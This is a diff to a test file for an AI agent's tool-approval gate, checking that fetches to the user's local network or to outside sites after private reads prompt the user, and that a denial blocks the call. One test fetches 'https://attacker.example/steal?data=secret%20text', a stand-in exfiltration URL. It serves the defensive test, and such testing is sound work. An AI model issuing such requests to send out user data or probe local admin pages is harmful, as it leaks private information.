@@ -56,6 +56,10 @@ describe('approval policy (annotations × situation → decision)', () => {
     ['remembered deny', READ, { remembered: 'deny', hasTarget: false }, { action: 'deny' }],
     ['act without asking: destructive allowed', DELETE_FILE, { trusted: true, hasTarget: false }, allow],
     ['act without asking: outbound allowed', FETCH, { trusted: true, outbound: true }, allow],
+    ['an address on the user\'s own network asks every time', FETCH, { local: true }, { action: 'ask', reason: 'local', scope: 'call' }],
+    ['own network, Always allow remembered for that tool and site', FETCH, { local: true, remembered: 'allow' }, allow],
+    ['own network, act without asking', FETCH, { local: true, trusted: true }, allow],
+    ['own network after private reads: the outbound ask comes first', FETCH, { local: true, outbound: true }, { action: 'ask', reason: 'outbound', scope: 'call' }],
   ];
   it.each(rows)('%s', (_label, annotations, situation, expected) => {
     expect(decide({ ...base, ...situation, annotations })).toEqual(expected);
@@ -121,6 +125,24 @@ describe('approval gate', () => {
     await expect(gate.check(call('read_tab', READ_TAB, { tab_id: 1 }))).resolves.toMatchObject({ ok: true, note: { site: 'https://news.example' } });
     await expect(gate.check(call('list_files', READ, {}))).resolves.toMatchObject({ ok: true });
     expect(asked).toEqual([]);
+  });
+
+  it('an address on the user\'s own network asks; Allow once hands that address to the tool, and only then', async () => {
+    const { gate } = makeGate();
+    const url = 'http://127.0.0.1:8080/admin';
+    const pending = gate.check(call('fetch', FETCH, { url }));
+    const ask = await nextAsk(gate);
+    expect(ask).toMatchObject({ reason: 'local', url, site: 'http://127.0.0.1:8080' });
+    gate.answer(ask.id, 'once');
+    await expect(pending).resolves.toMatchObject({ ok: true, approvedUrl: url });
+    // A public address needs no ask and carries no approval.
+    const open = await gate.check(call('fetch', FETCH, { url: 'https://example.com/' }));
+    expect(open).toMatchObject({ ok: true });
+    expect('approvedUrl' in open && open.approvedUrl).toBeFalsy();
+    // Denied: nothing is handed on.
+    const denied = gate.check(call('fetch', FETCH, { url: 'http://router/' }));
+    gate.answer((await nextAsk(gate)).id, 'deny');
+    await expect(denied).resolves.toMatchObject({ ok: false, result: { code: 'denied' } });
   });
 
   it('Deny: the model reads that the user declined; the card had the site, the tool and the full arguments', async () => {
@@ -225,17 +247,17 @@ describe('approval gate', () => {
     await expect(gate.check(call('fetch', FETCH, { url: 'https://docs.example/other' }))).resolves.toMatchObject({ ok: true });
     await expect(gate.check(call('fetch', FETCH, { url: 'https://news.example/more' }))).resolves.toMatchObject({ ok: true });
     expect(asked).toEqual([]);
-    const url = 'http://127.0.0.1:9/steal?data=secret%20text';
+    const url = 'https://attacker.example/steal?data=secret%20text';
     const pending = gate.check(call('fetch', FETCH, { url }));
     const ask = await nextAsk(gate);
-    expect(ask).toMatchObject({ reason: 'outbound', url, site: 'http://127.0.0.1:9' });
+    expect(ask).toMatchObject({ reason: 'outbound', url, site: 'https://attacker.example' });
     gate.answer(ask.id, 'deny');
     await expect(pending).resolves.toMatchObject({ ok: false, result: { code: 'denied' } });
     // Allowed once, the site is then involved.
     const second = gate.check(call('fetch', FETCH, { url }));
     gate.answer((await nextAsk(gate)).id, 'once');
     await expect(second).resolves.toMatchObject({ ok: true });
-    await expect(gate.check(call('fetch', FETCH, { url: 'http://127.0.0.1:9/again' }))).resolves.toMatchObject({ ok: true });
+    await expect(gate.check(call('fetch', FETCH, { url: 'https://attacker.example/again' }))).resolves.toMatchObject({ ok: true });
     expect(asked).toHaveLength(2);
   });
 
